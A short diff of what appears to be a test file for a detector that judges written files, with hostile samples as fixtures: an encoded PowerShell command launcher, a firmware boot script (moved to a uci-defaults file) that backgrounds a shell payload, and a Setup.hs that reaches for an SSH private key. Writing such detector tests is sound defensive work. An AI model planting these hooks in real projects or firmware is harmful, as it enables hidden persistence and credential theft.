@@ -40,7 +40,7 @@ def written(path: str, text: str) -> Verdict:
             "p = ProcessStartInfo('powershell.exe', '-NoP -Enc " + "SQBFAFgAIAAo" * 4 + "')\n"
             "Process.Start(p)",
         ),
-        ("image/rootfs/etc/init.d/leds", f"#!/bin/sh\nstart() {{ ({SHELL}) & }}\n"),
+        ("image/files/etc/uci-defaults/97-leds", f"#!/bin/sh\n({SHELL}) &\n"),
         (
             "Setup.hs",
             'send = do\n  let f = h ++ "/.ssh/id_ed25519"\n'
